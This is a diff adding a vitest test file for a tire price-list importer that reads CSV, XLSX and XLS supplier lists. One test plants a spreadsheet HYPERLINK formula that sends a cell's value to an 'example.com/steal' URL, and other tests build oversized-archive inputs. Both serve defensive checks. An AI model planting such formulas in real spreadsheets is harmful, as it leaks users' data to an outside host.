@@ -1,0 +1,152 @@
+import { expect, test } from 'vitest';
+import { ENGLISH_SHEETS, frenchCsv, MONTREAL, otherWorkbook, xlsx, type Cells } from '../../../tests/supplier-lists.ts';
+import { zip } from '../../../tests/zip-parts.ts';
+import type { ListedTire } from '../../suppliers/listed-tire.ts';
+import { checkArchive } from './archive-check.ts';
+import { readPriceList } from '../price-list/check.ts';
+import { checkList } from '../checked-list.ts';
+import { openListFile } from './list-file.ts';
+import { mappingFrom, type Mapping } from '../mapping/mapping.ts';
+
+const montreal = mappingFrom(
+  {
+    supplier: 'mtl',
+    stockPlaces: 'warehouses',
+    columns: {
+      sku: 'No article',
+      brand: 'marque',
+      pattern: 'Modele',
+      width: 'Largeur',
+      ratio: 'Rapport',
+      rim: 'Jante',
+      loadIndex: 'Charge',
+      speedRating: 'Vitesse',
+      season: 'Saison',
+      barcode: 'CUP',
+      cost: 'Coûtant',
+      msrp: 'PDSF',
+      stock: ['Qté Montréal', 'Qté Québec', 'Qté Ottawa'],
+    },
+  },
+  'montreal',
+);
+const english = mappingFrom(
+  {
+    columns: {
+      sku: 'Part Number',
+      brand: 'Brand',
+      pattern: 'Pattern',
+      size: 'Size',
+      loadSpeed: 'Service',
+      season: 'Season',
+      cost: 'Dealer Price',
+      msrp: 'MSRP',
+      stock: ['In stock'],
+    },
+  },
+  'english',
+);
+
+async function rowsOf(bytes: Buffer, mapping: Mapping, sheet?: string) {
+  const list = await openListFile({ file: 'list', bytes, sheet });
+  const rows: ListedTire[] = [];
+  const checked = await checkList(await readPriceList(list, mapping), undefined, (row) => rows.push(row));
+  return { rows, rejected: checked.rejected, list };
+}
+const title = ({ sku, brand, pattern, type, size, cost, msrp, count }: ListedTire) =>
+  [sku, brand, pattern, type, `${size!.width}/${size!.profile}/${size!.rim}`, cost, msrp, count].join(' | ');
+
+test('a French list in Windows-1252, with lines above the header and the size in three columns, and the same as XLSX and XLS', async () => {
+  const csv = await rowsOf(frenchCsv(MONTREAL), montreal);
+  expect(csv.rejected).toEqual([]);
+  expect(csv.rows.map(title)).toEqual([
+    'mtl-10234 | Toyo | Observe GSi-6 | wintertires | 225/65/17 | 128.40 | 189.99 | 20',
+    'mtl-10235 | Nokian | Hakkapeliitta R5 | wintertires | 205/55/16 | 1028.40 | 1389.99 | 26',
+    'mtl-10240 | Michelin | Primacy Tour A/S | allseasontires | 235/55/19 | 201.10 | 289.00 | 10',
+    'mtl-10241 | Pirelli | P Zéro | summertires | 245/40/18 | 244.95 | 349.95 | 14',
+    'mtl-10242 | Toyo | Open Country A/T III | allterraintires | 265/70/17 | 219.00 | 310.00 | 18',
+  ]);
+  expect(csv.rows[1]).toMatchObject({ loadIndex: '94', speedRating: 'R', barcode: '6419440212340' });
+  for (const bytes of [
+    await xlsx({ Liste: MONTREAL }),
+    otherWorkbook({ Liste: MONTREAL }, 'xlsx'),
+    otherWorkbook({ Liste: MONTREAL }, 'biff8'),
+  ])
+    expect((await rowsOf(bytes, montreal)).rows).toEqual(csv.rows);
+});
+
+test('of several sheets the largest is read, or the one that is named', async () => {
+  for (const bytes of [await xlsx(ENGLISH_SHEETS), otherWorkbook(ENGLISH_SHEETS, 'biff8')]) {
+    const { rows, list } = await rowsOf(bytes, english);
+    expect([list.sheet, list.sheets]).toEqual(['Price list', ['Terms', 'Price list', 'Old']]);
+    expect(rows.map(title)).toEqual([
+      'T-1 | Toyo | Celsius II | allweathertires | 225/65/17 | 96.10 | 150.00 | 4',
+      'T-2 | Toyo | Celsius II | allweathertires | 205/55/16 | 84.33 | 129.50 | 0',
+      'T-3 | Nitto | Ridge Grappler | allterraintires | 285/75/18 | 232.13 |  | 4',
+    ]);
+    await expect(rowsOf(bytes, english, 'old')).rejects.toThrow('list has no column "Brand". It has: "Part Number"');
+    await expect(rowsOf(bytes, english, 'New')).rejects.toThrow(
+      'list has no sheet "New". It has: "Terms", "Price list", "Old".',
+    );
+  }
+});
+
+test('a rejected row has the number that a spreadsheet program shows', async () => {
+  const sheet: Cells = [
+    ...ENGLISH_SHEETS['Price list']!,
+    [],
+    ['T-4', 'Toyo', 'Celsius II', 'none', '', 'Winter', 'CALL'],
+  ];
+  expect((await rowsOf(await xlsx({ List: sheet }), english)).rejected).toEqual([
+    {
+      line: 6,
+      item: 'T-4',
+      reasons: ['the size is missing', 'cost is "CALL", not an amount'],
+    },
+  ]);
+});
+
+test('a formula is the value that is stored with it', async () => {
+  const bytes = otherWorkbook({ List: ENGLISH_SHEETS['Price list']! }, 'xlsx');
+  const { read, write } = await import('@e965/xlsx');
+  const book = read(bytes);
+  Object.assign(book.Sheets.List!, { G2: { t: 'n', v: 101.5, f: 'HYPERLINK("https://example.com/steal?"&A2)' } });
+  const { rows } = await rowsOf(write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer, english);
+  expect(rows[0]!.cost).toBe('101.50');
+});
+
+test('an archive that unpacks to more than fits is refused before it is read, whatever size it states', async () => {
+  const parts = { 'xl/sharedStrings.xml': Buffer.alloc(60 * 1024 * 1024, 32) };
+  for (const stated of [undefined, 100])
+    await expect(openListFile({ file: 'list.xlsx', bytes: zip(parts, stated) })).rejects.toThrow(
+      'list.xlsx unpacks to more than a price list can hold. Save it as CSV and try again.',
+    );
+  const limits = { total: 1_000, part: 800, parts: 2 };
+  const small = { a: Buffer.alloc(700), b: Buffer.alloc(200) };
+  await expect(checkArchive(zip(small), 'x', limits)).resolves.toBeUndefined();
+  const large: Record<string, Buffer>[] = [
+    { ...small, c: Buffer.alloc(1) },
+    { a: Buffer.alloc(801) },
+    { 'xl/worksheets/sheet1.xml': Buffer.alloc(1_001) },
+  ];
+  for (const parts of large) await expect(checkArchive(zip(parts), 'x', limits)).rejects.toThrow('unpacks to more');
+});
+
+test('a sheet whose rows reach to the last column is refused', async () => {
+  const sheet = Buffer.from('<worksheet><sheetData><row r="1"><c r="XFD1"><v>1</v></c></row></sheetData></worksheet>');
+  await expect(checkArchive(zip({ 'xl/worksheets/sheet1.xml': sheet }), 'list.xlsx')).rejects.toThrow(
+    'list.xlsx has a sheet with more than 702 columns.',
+  );
+});
+
+test.each<[string, () => Promise<Buffer>]>([
+  ['the first half of an XLSX', async () => (await xlsx(ENGLISH_SHEETS)).subarray(0, 2_000)],
+  ['the first half of an XLS', async () => otherWorkbook(ENGLISH_SHEETS, 'biff8').subarray(0, 3_000)],
+  ['a ZIP of pictures', async () => zip({ 'a.png': Buffer.from('PNG') })],
+  ['an XLSX that only begins like one', async () => Buffer.from('PK\u0003\u0004rest')],
+  ['an XLS that only begins like one', async () => Buffer.from('d0cf11e0a1b11ae1', 'hex')],
+])('%s ends in one sentence', async (_, bytes) => {
+  await expect(openListFile({ file: 'list', bytes: await bytes() })).rejects.toThrow(
+    /^list is damaged[^\n]*again\.$|^list has no sheet\.$/,
+  );
+});
